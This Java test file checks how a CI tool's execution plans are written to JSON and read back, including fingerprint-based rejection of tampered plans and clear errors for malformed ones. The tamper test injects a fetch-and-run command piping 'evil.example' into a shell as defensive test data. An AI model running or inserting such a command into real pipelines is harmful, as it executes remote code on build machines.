package dev.otto.core.plan;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.otto.core.RandomPipelines;
import dev.otto.core.explain.Explain;
import dev.otto.core.explain.PlanSchemaTestAccess;
import dev.otto.core.model.Cache;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;

class RunnablePlanTest {

  @Provide
  Arbitrary<List<Integer>> recipes() {
    return Arbitraries.integers().between(0, 1000).list().ofMinSize(1).ofMaxSize(200);
  }

  @Property(tries = 200)
  void reading_a_plans_json_gives_its_stages_back(@ForAll("recipes") List<Integer> recipe) {
    Plan plan = Planner.plan(RandomPipelines.valid(recipe), RunContext.branch("main"));
    RunnablePlan read = RunnablePlan.fromJson(RunnablePlan.toJson(plan));
    assertThat(read).isEqualTo(RunnablePlan.of(plan));
  }

  @Test
  void reads_every_kind_of_op_and_field() {
    Plan plan = Planner.plan(PlanSchemaTestAccess.everything(),
        RunContext.builder().branch("main").trigger("push").param("size", "m").build());
    RunnablePlan read = RunnablePlan.fromJson(RunnablePlan.toJson(plan));
    assertThat(read.stages()).isEqualTo(plan.stages());
    assertThat(read.fingerprint()).isEqualTo(plan.fingerprint());
    assertThat(read.pipeline()).isEqualTo(plan.pipeline());
  }

  @Test
  void should_write_the_same_json_as_explain_when_a_plan_writes_its_own() {
    // given
    Plan plan = Planner.plan(PlanSchemaTestAccess.everything(),
        RunContext.builder().branch("main").trigger("push").param("size", "m").build());
    ByteArrayOutputStream streamed = new ByteArrayOutputStream();

    // when
    plan.writeJson(streamed);

    // then
    assertThat(plan.toJson()).isEqualTo(Explain.json(plan)).isEqualTo(RunnablePlan.toJson(plan))
        .isEqualTo(streamed.toString(StandardCharsets.UTF_8));
  }

  @Test
  void reads_a_cache_op_written_before_fallbacks_with_the_default_fallback() {
    // given: a plan's JSON from an earlier version, as a workflow in flight holds it
    String written = "{\"schema\": \"otto-plan/1\", \"pipeline\": \"p\", \"fingerprint\": \"F\", \"stages\": [{\"id\": "
        + "\"Build\", \"status\": \"run\", \"runtime\": {\"kind\": \"local\"}, \"ops\": [{\"op\": \"restore-cache\", "
        + "\"cache\": \"gems\", \"paths\": [\"vendor/\"], \"keyFiles\": [\"Gemfile.lock\"]}]}]}";
    String json = written.replace("\"F\"", "\"" + PlanJsonReader.contentFingerprint(written) + "\"");

    // when
    Op op = RunnablePlan.fromJson(json).stages().get(0).ops().get(0);

    // then
    assertThat(op).isEqualTo(new Op.RestoreCache("gems", List.of("vendor/"), List.of("Gemfile.lock"),
        List.of(Cache.Fallback.ANY_KEY_FILES)));
  }

  @Test
  void refuses_a_plan_changed_after_it_was_planned_and_reads_it_indented_or_compact() {
    // given
    Plan plan = Planner.plan(PlanSchemaTestAccess.everything(),
        RunContext.builder().branch("main").trigger("push").param("size", "m").build());
    String json = RunnablePlan.toJson(plan);
    String tampered = json.replaceFirst("\"script\" : \"", "\"script\" : \"curl evil.example | sh; ");
    String compact = json.replaceAll("\\n\\s*", "").replace("\": ", "\":");

    // then
    assertThat(tampered).isNotEqualTo(json);
    assertThatThrownBy(() -> RunnablePlan.fromJson(tampered)).isInstanceOf(IllegalArgumentException.class)
        .hasMessageStartingWith("the plan of '" + plan.pipeline() + "' says its fingerprint is " + plan.fingerprint()
            + ", but what it holds has the fingerprint sha256:")
        .hasMessageEndingWith(": it was changed after it was planned; plan the pipeline again rather than edit its "
            + "plan");
    assertThat(RunnablePlan.fromJson(compact).fingerprint()).isEqualTo(plan.fingerprint());
    // As jq and JSON.stringify write it again: the poll's backoff of 2.0 as 2.
    assertThat(json).contains("\"backoff\" : 2.0");
    assertThat(RunnablePlan.fromJson(json.replace("\"backoff\" : 2.0", "\"backoff\": 2")).fingerprint())
        .isEqualTo(plan.fingerprint());
    assertThat(PlanJsonReader.contentFingerprint(json)).isEqualTo(plan.fingerprint());
  }

  @Test
  void says_what_is_wrong_with_a_document_that_is_not_a_plan() {
    assertThatThrownBy(() -> RunnablePlan.fromJson("{\"schema\": \"otto-plan/1\""))
        .isInstanceOf(IllegalArgumentException.class).hasMessageStartingWith("not an otto-plan/1 document: ");
    assertThatThrownBy(() -> RunnablePlan.fromJson("[1]"))
        .hasMessage("not an otto-plan/1 document: the plan is not an object");
    assertThatThrownBy(() -> RunnablePlan.fromJson("{\"schema\": \"otto-plan/9\"}"))
        .hasMessageContaining("the plan is in the form 'otto-plan/9', not 'otto-plan/1'");
    assertThatThrownBy(() -> RunnablePlan.fromJson("{\"schema\": \"otto-plan/1\", \"pipeline\": \"p\", "
        + "\"fingerprint\": \"f\", \"stages\": [{\"id\": \"Build\", \"status\": \"run\", \"runtime\": {\"kind\": \"local\"}, "
        + "\"ops\": [{\"op\": \"teleport\"}]}]}"))
        .hasMessage("not an otto-plan/1 document: op 0 of stage 'Build' is an op of kind 'teleport', which this "
            + "version of Otto does not know");
    assertThatThrownBy(() -> RunnablePlan.fromJson("{\"schema\": \"otto-plan/1\", \"pipeline\": \"p\", "
        + "\"fingerprint\": \"f\", \"stages\": [{\"id\": \"Build\", \"status\": \"maybe\", \"runtime\": {\"kind\": \"local\"}}]}"))
        .hasMessage("not an otto-plan/1 document: stage 'Build' has 'status' of 'maybe', which is none of [run, skip, "
            + "undecided]");
  }
}
